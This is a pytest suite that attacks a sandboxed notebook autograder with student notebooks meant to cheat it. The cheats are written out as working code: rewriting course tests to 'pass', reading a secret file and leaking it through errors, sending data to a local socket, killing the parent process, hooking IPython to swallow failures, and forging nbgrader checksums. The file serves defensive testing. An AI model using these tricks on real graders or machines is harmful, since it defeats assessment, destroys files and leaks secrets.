"""The attack suite: every trick of issue 13, played by a student who wants full marks.

Each attack is a notebook built from the student version of the synthetic chapter of
test_assignments.py. It must score no more than the honest notebook it starts from (the
empty student version: 0 / 5; for the duplicate attack, the honest partial one: 3 / 5), or
be refused; no file of the course may change; every run ends within its deadline with a
report. ``ATTACKS`` is also used by the closing note's before/after table
(``python tests/test_grade_attacks.py --table``).
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import secrets
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Callable

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from course_tools import assignments as A
from course_tools import grade as G
from test_assignments import _by_id, synthetic_chapter

REPO = Path(__file__).resolve().parents[1]
NAME = "99_synth"
SANDBOXED = G.bwrap_status()[0]


# --------------------------------------------------------------------------
# The attacks: (description, baseline, builder(ctx) -> notebook)
# --------------------------------------------------------------------------

def _insert(nb, source: str, at: int = 1) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    nb.cells.insert(at, new_code_cell(source))
    return nb


def _solve(ctx, nb, *gids):
    nb = copy.deepcopy(nb)
    for gid in gids:
        _by_id(nb)[gid].source = _by_id(ctx["source"])[gid].source
    return nb


def rewrite_course(ctx):
    code = f"""
import pathlib, shutil
for p in list(pathlib.Path({str(ctx['chapters'])!r}).glob('*.ipynb')) + list(pathlib.Path({str(REPO / 'chapters')!r}).glob('*.ipynb')):
    try:
        p.write_text(p.read_text().replace('assert ', 'pass  # '))
    except Exception as err:
        print('blocked:', type(err).__name__)
for p in ({str(ctx['canary'])!r}, {str(REPO / 'collapse_lib' / ctx['canary'].name)!r}):
    try:
        pathlib.Path(p).write_text('the student was here')
    except Exception as err:
        print('blocked:', type(err).__name__)
shutil.rmtree({str(ctx['chapters'])!r}, ignore_errors=True)
"""
    return _insert(ctx["release"], code)


def leak_secrets(ctx):
    code = f"""
import os
def square(x):
    try:
        secret = open({str(ctx['secret_file'])!r}).read()
    except Exception as err:
        secret = 'file: ' + type(err).__name__
    raise RuntimeError(secret + ' | ' + ' '.join(sorted(os.environ)))
"""
    nb = copy.deepcopy(ctx["release"])
    _by_id(nb)["ex-syn-square-solution"].source = code
    return nb


def custom_exc(ctx):
    return _insert(ctx["release"], "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)")


def input_transformer(ctx):
    return _insert(ctx["release"], "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")


def cleanup_transformer(ctx):
    return _insert(ctx["release"], "get_ipython().input_transformer_manager.cleanup_transforms.append("
                                   "lambda lines: ['pass\\n'])")


def ast_transformer(ctx):
    code = """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())
"""
    return _insert(ctx["release"], code)


def pre_run_callback(ctx):
    code = """
ip = get_ipython()
def again(*args):
    ip.set_custom_exc((BaseException,), lambda *a, **k: None)
ip.events.register('pre_run_cell', again)
ip.events.register('pre_execute', again)
"""
    return _insert(ctx["release"], code)


def instance_patch(ctx):
    code = """
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
"""
    return _insert(ctx["release"], code)


def class_patch(ctx):
    code = """
import IPython.core.interactiveshell as s
s.InteractiveShell.showtraceback = lambda *a, **k: None
type(get_ipython())._showtraceback = lambda *a, **k: None
"""
    return _insert(ctx["release"], code)


def injected_result(ctx):
    code = """
import itertools, threading, time
ip = get_ipython()
def inject():
    for value in itertools.cycle([1000.0, 2.0, 'x']):
        try:
            ip.displayhook(value)       # an execute_result in whatever cell runs now
        except Exception:
            pass
        time.sleep(0.005)
threading.Thread(target=inject, daemon=True).start()
"""
    return _insert(_solve(ctx, ctx["release"], "ex-syn-cube-solution"), code)


def chapter_metadata_path(ctx):
    nb = copy.deepcopy(ctx["release"])
    nb.metadata["collapse_assignment"] = {"chapter": "../x"}
    return nb


def recomputed_checksums(ctx):
    from nbgrader.utils import compute_checksum
    nb = copy.deepcopy(ctx["release"])
    for gid in ("ex-syn-square-tests", "ex-syn-cube-tests"):
        cell = _by_id(nb)[gid]
        cell.source = "pass"
        cell.metadata.nbgrader["points"] = 100
        cell.metadata.nbgrader["checksum"] = compute_checksum(cell)
    return nb


def extra_cell_1000(ctx):
    from nbgrader.utils import compute_checksum
    nb = copy.deepcopy(ctx["release"])
    cell = copy.deepcopy(_by_id(nb)["ex-syn-cube-tests"])
    cell.source = "pass"
    cell["id"] = "bonus-cell"
    cell.metadata.nbgrader.update(grade_id="bonus", points=1000)
    cell.metadata.nbgrader["checksum"] = compute_checksum(cell)
    nb.cells.append(cell)
    return nb


def duplicate_passing_test(ctx):
    nb = _solve(ctx, ctx["release"], "ex-syn-cube-solution")
    test = _by_id(nb)["ex-syn-cube-tests"]
    for k in range(5):
        nb.cells.append(copy.deepcopy(test))
        nb.cells[-1]["id"] = f"copy-{k}"
    return nb


def missing_grade_id(ctx):
    nb = copy.deepcopy(ctx["release"])
    cell = _by_id(nb)["ex-syn-square-tests"]
    del cell.metadata.nbgrader["grade_id"]
    cell.source = "pass"
    return nb


def sigint_ignored(ctx):
    return _insert(ctx["release"], "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                   "while True:\n    pass")


def print_100mb(ctx):
    return _insert(ctx["release"], "print('x' * 100_000_000)\nfor _ in range(200):\n    print('y' * 500_000)")


def kill_parent(ctx):
    return _insert(ctx["release"], "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
                                   "os.killpg(0, signal.SIGKILL)")


def malformed_metadata(ctx):
    nb = copy.deepcopy(ctx["release"])
    _by_id(nb)["ex-syn-square-tests"].metadata.nbgrader["points"] = "1000"
    _by_id(nb)["ex-syn-cube-tests"].metadata.nbgrader["grade_id"] = 7
    nb.cells[1].metadata["nbgrader"] = ["not", "a", "dict"]
    return nb


def network(ctx):
    code = f"""
import socket
try:
    socket.create_connection(('127.0.0.1', {ctx['port']}), timeout=2).sendall(b'stolen')
except OSError as err:
    print('blocked:', err)
"""
    return _insert(ctx["release"], code)


def steal_solution(ctx):
    code = f"""
import json, re
for path in ({str(ctx['chapters'] / (NAME + '.ipynb'))!r}, {str(REPO / 'assignments' / 'source' / NAME / (NAME + '.ipynb'))!r}):
    try:
        nb = json.load(open(path))
    except OSError:
        continue
    for c in nb['cells']:
        if c['cell_type'] == 'code' and 'def ' in ''.join(c['source']):
            exec(re.sub(r'\\s*### (BEGIN|END) SOLUTION', '', ''.join(c['source'])))
"""
    nb = copy.deepcopy(ctx["release"])
    for gid in ("ex-syn-square-solution", "ex-syn-cube-solution"):   # in place of the stubs
        _by_id(nb)[gid].source = code
    return nb


ATTACKS: dict[str, tuple[str, str, Callable]] = {
    "rewrite-course": ("a cell rewrites the chapters' tests to `pass`, deletes chapters, drops files", "empty", rewrite_course),
    "leak-secrets": ("the error message carries a file outside the course and the environment's names", "empty", leak_secrets),
    "custom-exc": ("`set_custom_exc((BaseException,), ...)` swallows every error", "empty", custom_exc),
    "input-transformer": ("an input transformer turns every cell into `pass`", "empty", input_transformer),
    "cleanup-transformer": ("a cleanup transformer turns every cell into `pass`", "empty", cleanup_transformer),
    "ast-transformer": ("an AST transformer removes every `assert`", "empty", ast_transformer),
    "pre-run-callback": ("a pre_run_cell callback re-installs the exception swallower", "empty", pre_run_callback),
    "instance-patch": ("`showtraceback` patched on the shell instance", "empty", instance_patch),
    "class-patch": ("`showtraceback` patched on the shell class", "empty", class_patch),
    "injected-result": ("a thread injects results (1000, 2, 'x') into the test cells (partial credit)", "partial", injected_result),
    "chapter-metadata": ("notebook metadata names `../x` as its chapter", "empty", chapter_metadata_path),
    "recomputed-checksums": ("test cells emptied, points 100, checksums recomputed", "empty", recomputed_checksums),
    "extra-cell-1000": ("an added test cell worth 1000 points with a valid checksum", "empty", extra_cell_1000),
    "duplicate-test": ("a passing test cell duplicated 5 times", "partial", duplicate_passing_test),
    "missing-grade-id": ("a test cell without grade_id (emptied)", "empty", missing_grade_id),
    "sigint-ignored": ("a loop that ignores SIGINT", "empty", sigint_ignored),
    "print-100mb": ("prints 100 MB, then 100 MB more in 500 kB lines", "empty", print_100mb),
    "kill-parent": ("kills its parent process and its process group", "empty", kill_parent),
    "malformed-metadata": ("points as a string, grade_id as a number, nbgrader metadata a list", "empty", malformed_metadata),
    "network": ("connects to a server on the grader's machine", "empty", network),
    "steal-solution": ("reads the instructor notebooks and runs their solutions", "empty", steal_solution),
}


# --------------------------------------------------------------------------
# Fixtures
# --------------------------------------------------------------------------

def _tree_digest(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


def _neutered(chapters: Path) -> dict[str, int]:
    """How often the rewrite attack's replacement text occurs in each chapter."""
    return {p.name: p.read_text().count("pass  # ") for p in sorted(chapters.glob("*.ipynb"))}


def make_context(root: Path) -> dict:
    chapters = root / "chapters"
    chapters.mkdir(parents=True)
    nbformat.write(synthetic_chapter(), str(chapters / f"{NAME}.ipynb"))
    A.build(chapters, root / "assignments")
    src, rel = A.assignment_paths(root / "assignments", NAME)
    token = secrets.token_hex(6)
    secret_file = Path.home() / f".grader-secret-{token}"
    secret_file.write_text(f"TOP-SECRET-{token}")
    os.environ[f"GRADER_TEST_SECRET_{token}"] = "1"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.setblocking(False)
    return {"root": root, "chapters": chapters, "ref": G.load_reference(NAME, chapters),
            "source": nbformat.read(str(src), 4), "release": nbformat.read(str(rel), 4),
            "token": token, "secret_file": secret_file, "canary": root.parent / f"canary-{token}.txt",
            "server": server, "port": server.getsockname()[1]}


def cleanup_context(ctx) -> None:
    ctx["secret_file"].unlink(missing_ok=True)
    os.environ.pop(f"GRADER_TEST_SECRET_{ctx['token']}", None)
    ctx["server"].close()
    (REPO / "collapse_lib" / ctx["canary"].name).unlink(missing_ok=True)


@pytest.fixture(scope="module")
def ctx(tmp_path_factory):
    c = make_context(tmp_path_factory.mktemp("attacks"))
    c["digest"] = _tree_digest(c["chapters"])
    c["repo_chapters"] = _neutered(REPO / "chapters")
    yield c
    cleanup_context(c)


def grade(nb, ctx, **kw) -> G.Report:
    kw.setdefault("timeout", 5)
    kw.setdefault("deadline", 60)
    return G.grade_notebook(nb, ctx["ref"], chapters_dir=ctx["chapters"], **kw)


BASELINE = {"empty": 0.0, "partial": 3.0}
#: Tricks only the sandbox stops (or that would harm the machine without it).
NEED_SANDBOX = ("rewrite-course", "leak-secrets", "kill-parent", "network", "steal-solution")


# --------------------------------------------------------------------------
# Tests
# --------------------------------------------------------------------------

@pytest.mark.parametrize("name", [n for n in ATTACKS if n not in ("print-100mb",)])
def test_attack_scores_no_more_than_honest(name, ctx):
    description, baseline, build = ATTACKS[name]
    if name in NEED_SANDBOX and not SANDBOXED:
        pytest.skip(f"{G.bwrap_status()[1]}: without the sandbox this trick is not prevented")
    start = time.monotonic()
    report = grade(build(ctx), ctx)
    assert time.monotonic() - start < 60 + 15, "the run overran its deadline"
    assert report.max_points == 5, report.max_points
    assert report.points <= BASELINE[baseline], G.format_report(report)
    text = json.dumps(report.__dict__, default=lambda o: o.__dict__)
    if name == "leak-secrets":
        assert ctx["token"] not in text and "GRADER_TEST_SECRET" not in text, text
        assert "file: FileNotFoundError" in text     # files outside the course are not there
    if name == "duplicate-test":
        assert report.ignored == ["ex-syn-cube-tests (duplicate)"] * 5
    if name == "extra-cell-1000":
        assert report.ignored == ["bonus (not in the reference)"]
    if name == "missing-grade-id":
        assert [c.status for c in report.cells] == ["missing", "fail"]
        assert report.ignored == ["<no grade_id> (not in the reference)"]
    if name == "sigint-ignored":
        assert any("ignored the interrupt" in n for n in report.notes), report.notes
    if name in ("custom-exc", "input-transformer", "cleanup-transformer", "ast-transformer",
                "pre-run-callback", "instance-patch"):
        # the hooks were reset: the tests fail on the stubs (or on the solutions the
        # transformer blanked), as in the honest empty notebook
        assert {c.error for c in report.cells} <= {"NotImplementedError", "NameError"}, \
            G.format_report(report)
    if name == "class-patch":
        assert all("replaced IPython internals" in (c.message or "") for c in report.cells), \
            G.format_report(report)
    if name == "network":
        with pytest.raises(BlockingIOError):
            ctx["server"].accept()
    if name == "rewrite-course":
        assert not ctx["canary"].exists()
        assert not (REPO / "collapse_lib" / ctx["canary"].name).exists()


def test_course_tree_unchanged_and_honest_still_zero(ctx):
    """Runs after the attacks: nothing in the course changed; an honest empty notebook still 0."""
    if SANDBOXED:
        grade(ATTACKS["rewrite-course"][2](ctx), ctx)
    assert _tree_digest(ctx["chapters"]) == ctx["digest"]
    # the real chapters (other people may edit them meanwhile): none deleted, none neutered
    after = _neutered(REPO / "chapters")
    assert all(after.get(k) == v for k, v in ctx["repo_chapters"].items()), (ctx["repo_chapters"], after)
    assert grade(ctx["release"], ctx).points == 0


def test_sentinel_proves_failures_count(ctx):
    """Without the hook reset (simulated: the reset is skipped) the custom handler would give
    full marks to a stub; the sentinel catches it and the test scores 0."""
    nonce = "n" * 16
    prep = G.prepare(custom_exc(ctx), ctx["ref"], nonce)
    sentinels = [c for c in prep.nb.cells if c.metadata.get(G.ROLE, {}).get("role") == "sentinel"]
    assert len(sentinels) == 2 and all(nonce in c.source for c in sentinels)
    from course_tools import grade_execute as GE   # where the executor looks the reset up

    original = GE._reset_expression
    try:
        GE._reset_expression = lambda keep, cap=0: "__import__('json').dumps({'callbacks': {}, 'fingerprint': []})"
        report = grade(custom_exc(ctx), ctx)
    finally:
        GE._reset_expression = original
    assert report.points == 0
    assert all("failures are swallowed" in c.message for c in report.cells), G.format_report(report)


def test_overall_deadline_kills_and_reports(ctx):
    nb = copy.deepcopy(ctx["release"])
    for _ in range(20):
        nb.cells.insert(1, new_code_cell("import time\ntime.sleep(1)"))
    start = time.monotonic()
    report = grade(nb, ctx, timeout=5, deadline=6)
    assert time.monotonic() - start < 20
    assert report.points == 0 and any("overall deadline" in n for n in report.notes)
    assert {c.message for c in report.cells} == {"not executed: the overall deadline of 6 s was reached; "
                                                 "the kernel was killed"}


def test_output_cap_keeps_the_grader_small(ctx, tmp_path):
    """The 100 MB printer, graded by the command line: the grader's own peak memory stays
    within 100 MB of an honest run's."""
    def peak(nb) -> tuple[float, dict]:
        path = tmp_path / "sub.ipynb"
        nbformat.write(nb, str(path))
        proc = subprocess.run([sys.executable, "-m", "course_tools.grade", str(path), "--assignment", NAME,
                               "--chapters", str(ctx["chapters"]), "--json", "--timeout", "30"],
                              capture_output=True, text=True, timeout=300)
        assert proc.returncode == 0, proc.stderr
        data = json.loads(proc.stdout)
        return data["grader_peak_rss_mb"], data
    honest, _ = peak(ctx["release"])
    attack, data = peak(print_100mb(ctx))
    assert data["points"] == 0
    assert attack < honest + 100, (honest, attack)
    assert any("truncated" in n for n in data["notes"]), data["notes"]


# --------------------------------------------------------------------------
# Before/after table for the closing note
# --------------------------------------------------------------------------

if __name__ == "__main__" and "--table" in sys.argv:
    import tempfile
    with tempfile.TemporaryDirectory() as tmp:
        c = make_context(Path(tmp) / "course")
        try:
            for name, (description, baseline, build) in ATTACKS.items():
                start = time.monotonic()
                r = grade(build(c), c)
                print(f"| {name} | {description} | {r.points:g} / {r.max_points:g} "
                      f"(honest {BASELINE[baseline]:g}) | {time.monotonic() - start:.1f} s "
                      f"| peak {r.grader_peak_rss_mb:.0f} MB |", flush=True)
        finally:
            cleanup_context(c)
